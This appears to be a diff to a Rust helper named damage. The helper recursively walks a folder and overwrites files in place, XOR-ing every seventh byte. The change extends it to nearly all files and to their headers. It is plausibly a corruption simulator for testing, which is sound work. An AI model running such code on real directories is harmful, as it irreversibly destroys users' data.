@@ -100,9 +100,9 @@ fn damage(folder: &Path) -> usize {
         let path = entry.unwrap().path();
         if path.is_dir() {
             damaged += damage(&path);
-        } else if path.metadata().unwrap().len() > 64 {
+        } else if path.metadata().unwrap().len() > 8 {
             let mut bytes = fs::read(&path).unwrap();
-            bytes.iter_mut().skip(20).step_by(7).for_each(|byte| *byte ^= 0x55);
+            bytes.iter_mut().step_by(7).for_each(|byte| *byte ^= 0x55);
             fs::write(&path, bytes).unwrap();
             damaged += 1;
         }
